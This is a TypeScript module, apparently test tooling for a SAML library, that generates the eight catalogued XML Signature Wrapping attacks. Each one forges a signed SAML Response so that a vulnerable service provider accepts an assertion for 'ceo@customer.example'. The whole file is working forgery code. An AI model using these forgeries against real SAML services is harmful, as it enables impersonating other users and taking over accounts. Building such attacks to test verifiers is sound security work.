import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { childrenNamed, descendantElements } from '../xml/dom-read.ts';
import { NS } from '../xml/xml-constants.ts';

/*
 * The eight XML Signature Wrapping attacks of the classic catalogue (Somorovsky et al., "On
 * Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012; as named by SAML Raider),
 * each built explicitly from a genuine signed Response. The attacker keeps the genuine signed
 * element somewhere a signature check can still find it by ID, and puts an evil assertion where
 * the application reads. Evil assertions name EVIL_NAME_ID.
 *
 * XSW1, XSW2 wrap the signed Response; XSW3 to XSW8 wrap the signed Assertion.
 */

export const EVIL_NAME_ID = 'ceo@customer.example';
const EVIL_ID = '_evil0000000000000000000000000000';

interface Parts {
  doc: Document;
  response: Element;
  assertion: Element;
}

function load(xml: string): Parts {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const response = doc.documentElement;
  const assertion = childrenNamed(response, NS.assertion, 'Assertion')[0];
  if (!assertion) throw new Error('the genuine response has no assertion');
  return { doc, response, assertion };
}

function signatureOf(element: Element): Element {
  const signature = childrenNamed(element, NS.dsig, 'Signature')[0];
  if (!signature) throw new Error('element is not signed');
  return signature;
}

/** A deep copy without its own (enveloped) signature: what the genuine signature digested. */
function unsignedCopy(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  const signature = childrenNamed(copy, NS.dsig, 'Signature')[0];
  if (signature) copy.removeChild(signature);
  return copy;
}

/** Turns an assertion (in place) into the attacker's: another user, and its own ID when given. */
function makeEvil(assertion: Element, id: string | null): Element {
  if (id !== null) assertion.setAttribute('ID', id);
  for (const nameId of descendantElements(assertion).filter((e) => e.localName === 'NameID')) {
    nameId.textContent = EVIL_NAME_ID;
  }
  return assertion;
}

function evilAssertionFrom(genuine: Element): Element {
  return makeEvil(unsignedCopy(genuine), EVIL_ID);
}

const serialize = (doc: Document) => new XMLSerializer().serializeToString(doc);

/** XSW1: the genuine Response, unsigned copy, goes inside its own Signature; the outer Response is evil. */
export function xsw1(xml: string): string {
  const { doc, response, assertion } = load(xml);
  const signature = signatureOf(response);
  signature.appendChild(unsignedCopy(response));
  response.setAttribute('ID', '_evilresponse0000000000000000000');
  response.replaceChild(evilAssertionFrom(assertion), assertion);
  return serialize(doc);
}

/** XSW2: as XSW1, but the genuine Response copy sits before the Signature (a detached signature). */
export function xsw2(xml: string): string {
  const { doc, response, assertion } = load(xml);
  const signature = signatureOf(response);
  response.insertBefore(unsignedCopy(response), signature);
  response.setAttribute('ID', '_evilresponse0000000000000000000');
  response.replaceChild(evilAssertionFrom(assertion), assertion);
  return serialize(doc);
}

/** XSW3: an evil Assertion (new ID) inserted before the genuine signed Assertion, as its sibling. */
export function xsw3(xml: string): string {
  const { doc, response, assertion } = load(xml);
  response.insertBefore(evilAssertionFrom(assertion), assertion);
  return serialize(doc);
}

/** XSW4: the genuine signed Assertion moved inside an evil Assertion that takes its place. */
export function xsw4(xml: string): string {
  const { doc, response, assertion } = load(xml);
  const evil = evilAssertionFrom(assertion);
  response.replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return serialize(doc);
}

/**
 * XSW5: the genuine Assertion edited in place (evil values and ID, keeping the genuine Signature),
 * with an unsigned copy of the genuine Assertion appended at the end of the Response.
 */
export function xsw5(xml: string): string {
  const { doc, response, assertion } = load(xml);
  const genuineCopy = unsignedCopy(assertion);
  makeEvil(assertion, EVIL_ID);
  response.appendChild(genuineCopy);
  return serialize(doc);
}

/** XSW6: as XSW5, but the unsigned genuine copy goes inside the evil Assertion's Signature. */
export function xsw6(xml: string): string {
  const { doc, assertion } = load(xml);
  const genuineCopy = unsignedCopy(assertion);
  makeEvil(assertion, EVIL_ID);
  signatureOf(assertion).appendChild(genuineCopy);
  return serialize(doc);
}

/** XSW7: an Extensions block holding the unsigned genuine Assertion; the Assertion in place is evil. */
export function xsw7(xml: string): string {
  const { doc, response, assertion } = load(xml);
  const genuineCopy = unsignedCopy(assertion);
  makeEvil(assertion, EVIL_ID);
  const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
  extensions.appendChild(genuineCopy);
  response.insertBefore(extensions, childrenNamed(response, NS.protocol, 'Status')[0]!);
  return serialize(doc);
}

/** XSW8: as XSW6, but the unsigned genuine copy is wrapped in a ds:Object inside the Signature. */
export function xsw8(xml: string): string {
  const { doc, assertion } = load(xml);
  const genuineCopy = unsignedCopy(assertion);
  makeEvil(assertion, EVIL_ID);
  const object = doc.createElementNS(NS.dsig, 'ds:Object');
  object.appendChild(genuineCopy);
  signatureOf(assertion).appendChild(object);
  return serialize(doc);
}

export const XSW_ATTACKS = { xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8 } as const;
